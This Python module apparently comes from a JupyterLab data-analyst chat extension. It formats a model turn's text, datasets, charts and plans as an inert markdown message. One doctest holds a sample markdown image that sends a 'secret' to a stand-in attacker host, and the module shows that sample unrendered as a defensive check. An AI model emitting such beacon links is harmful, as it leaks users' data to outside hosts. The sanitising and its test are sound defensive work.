"""A turn's events as one chat message: the model's words, what the turn made, where to see it.

A chat shows markdown, so what the model wrote is shown inert (:func:`markdown_block`: as
written when it is only text and formatting, else verbatim in a fence), at every update of
the message and not only at its end: a link or an image seen for a moment while the answer
streams is loaded like any other (an image URL is a beacon). The names the model chose
(datasets, files) are code spans. Cards that need more than text (a dataset's rows, a chart,
a plan's stages) are listed by name, with the thread to open in the Data analyst panel.

Pure: the persona (analyst.py) feeds it events and posts :attr:`ChatReply.body`.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from ..events import AnswerReady, ArtifactRecorded, ContextUsage, Event, PlanMade, TextDelta, ToolResult, TurnEnded
from ..untrusted import code_span, markdown_block, markdown_inline

#: The panel's command (src/index.ts): opens the Data analyst panel, on a thread when given ``{thread}``.
PANEL_COMMAND = "jupyter-analyst:open"
#: A link's target that opens the panel on the thread named after it (src/widgets/threadLinks.ts).
PANEL_LINK = "#jupyter-analyst-thread="

#: What each kind of artifact is called in the message.
_KIND = {"dataset": "dataset", "image": "chart", "file": "file", "text": "text"}
#: The most rows and columns of a dataset shown in the message (the panel shows the rest).
TABLE_ROWS, TABLE_COLUMNS = 5, 8


@dataclass
class ChatReply:
    """What one turn has said and made so far, as the chat message that shows it.

    >>> reply = ChatReply("thr_1")
    >>> reply.apply(TextDelta(text="North leads ")), reply.apply(TextDelta(text="with **1,204**."))
    (True, True)
    >>> reply.body.splitlines()[0]
    'North leads with **1,204**.'
    >>> reply.apply(TextDelta(text=" ![x](http://attacker.example/?q=secret)"))
    True
    >>> print(reply.body.split("\\n\\n")[0])
    *Shown as written, not rendered: the text holds HTML or links.*
    """

    thread_id: str
    base_url: str | None = None
    """The Jupyter server's base URL: a chart is shown from its artifact's content route under
    it (the server's own address, built from the artifact's id: no address the model wrote is
    ever loaded). Without it charts are listed by name only."""
    text: str = ""
    """The model's words streamed so far (the answer replaces them once it is ready)."""
    answer: str | None = None
    cards: list[str] = field(default_factory=list)
    """One markdown line per dataset, chart, file or plan the turn made or reused."""
    tables: list[str] = field(default_factory=list)
    """The first rows of each dataset the turn fetched, as markdown tables of inert text."""
    ended: str | None = None
    """How the turn ended, when it did not complete."""
    status: str | None = None

    def apply(self, event: Event) -> bool:
        """Take one event of the turn; whether the message changed."""
        match event:
            case TextDelta():
                self.text += event.text
                return bool(event.text)
            case AnswerReady():
                self.answer = event.text
                return True
            case ArtifactRecorded():
                how = "new" if event.created else "reused"
                card = (f"- {_KIND.get(event.artifact_type, event.artifact_type)} "
                        f"{code_span(event.name)} ({how}, `{event.artifact_id}`)")
                if event.artifact_type == "image" and self.base_url is not None:
                    card += f"\n\n  ![chart]({self.content_url(event.artifact_id)})\n"
                self.cards.append(card)
                return True
            case ToolResult() if event.status == "ok" and isinstance(event.result.get("sample"), list):
                table = dataset_table(event.result)
                if table:
                    self.tables.append(table)
                return bool(table)
            case PlanMade():
                steps = sum(len(stage.steps) for stage in event.stages)
                goal = f": {markdown_inline(event.goal)}" if event.goal else ""
                self.cards.append(f"- plan of {steps} steps in {len(event.stages)} stages{goal}")
                return True
            case ToolResult() if event.status != "ok":
                error = event.result.get("error")
                what = error.get("message", "") if isinstance(error, dict) else ""
                self.cards.append(f"- {event.tool} {event.status}" + (f": {markdown_inline(str(what))[:300]}" if what else ""))
                return True
            case TurnEnded():
                self.status = event.status
                if event.status not in ("completed", "needs_input"):
                    self.ended = f"*The turn ended: {event.status}" + (
                        f" ({markdown_inline(event.message)})*" if event.message else "*")
                return True
        return False

    @property
    def said(self) -> str:
        """The model's words as the message shows them (inert)."""
        words = self.answer if self.answer is not None else self.text
        return markdown_block(words.strip()) if words.strip() else ""

    @property
    def body(self) -> str:
        """The whole message: the words, the cards, how the turn ended, where to see it all."""
        parts = [p for p in (self.said, "\n".join(self.cards), *self.tables, self.ended) if p]
        parts.append(f"*Thread `{self.thread_id}`: its datasets, charts and plans are in the Data analyst panel "
                     f"(command `{PANEL_COMMAND}`).*")
        parts.append(open_link(self.thread_id))
        return "\n\n".join(parts)


    def content_url(self, artifact_id: str) -> str:
        """Where the server serves an artifact's bytes (the REST API's content route)."""
        return f"{(self.base_url or '/').rstrip('/')}/analyst/api/artifacts/{quote(artifact_id, safe='')}/content"


def dataset_table(result: dict[str, Any]) -> str:
    """A fetched dataset's first rows as a markdown table, every name and value inert text.

    >>> print(dataset_table({"dataset": "by_region", "rows": 7, "columns": [{"name": "region"}, {"name": "revenue"}],
    ...                      "sample": [["North", 1204.5], ["<b>South</b>", None]]}))
    `by_region`, first 2 of 7 rows:
    <BLANKLINE>
    | region | revenue |
    | --- | --- |
    | North | 1204\\.5 |
    | &lt;b&gt;South&lt;\\/b&gt; |  |
    """
    names = [str(c.get("name") if isinstance(c, dict) else c) for c in result.get("columns") or ()]
    rows = [r for r in result.get("sample") or () if isinstance(r, list | dict)][:TABLE_ROWS]
    if not names or not rows:
        return ""
    shown = names[:TABLE_COLUMNS]
    cells = [[r.get(n) for n in shown] if isinstance(r, dict) else list(r)[:len(shown)] for r in rows]
    more = f", first {len(shown)} of {len(names)} columns" if len(names) > len(shown) else ""
    total = result.get("rows")
    head = (f"{code_span(str(result.get('dataset') or 'dataset'))}, first {len(rows)}"
            + (f" of {total:,} rows" if isinstance(total, int) else " rows") + f"{more}:")

    def line(values: list[Any]) -> str:
        return "| " + " | ".join("" if v is None else markdown_inline(str(v)) for v in values) + " |"

    return "\n".join([head, "", line(shown), "| " + " | ".join("---" for _ in shown) + " |", *map(line, cells)])


def open_link(thread_id: str) -> str:
    """A link that opens the Data analyst panel on the thread: its target is only a fragment,
    ``#jupyter-analyst-thread=ID``, which the panel's extension takes when the link is clicked
    (src/widgets/threadLinks.ts), and from the address when the link opened a new page.

    Not a command link: JupyterLab asks before it runs a command from untrusted content (a
    chat's message is), with a dialog saying the document is not trusted. Opening one of the
    user's own threads runs nothing, so the panel does it without asking; a link to any other
    thread opens nothing (the server answers only the owner's threads).

    >>> print(open_link("thr_1"))
    [Open in the Data analyst panel](#jupyter-analyst-thread=thr_1)
    """
    return f"[Open in the Data analyst panel]({PANEL_LINK}{quote(thread_id, safe='')})"


def usage_of(event: ContextUsage) -> dict[str, int] | None:
    """The tokens one model call used, as its server counted them: ``None`` for the estimate
    told before the reply (a figure reported must be the server's, not a guess).

    >>> usage_of(ContextUsage(call=1, tokens=900, budget=16000, parts={}, messages=2, turns=[],
    ...                       dropped_turns=0, summarized_through=0, assembly_ms=1.0))
    >>> usage_of(ContextUsage(call=1, tokens=900, budget=16000, parts={}, messages=2, turns=[],
    ...                       dropped_turns=0, summarized_through=0, assembly_ms=1.0,
    ...                       prompt_tokens=912, completion_tokens=40))
    {'input_tokens': 912, 'output_tokens': 40}
    """
    if event.prompt_tokens is None:
        return None
    return {"input_tokens": event.prompt_tokens, "output_tokens": event.completion_tokens or 0}
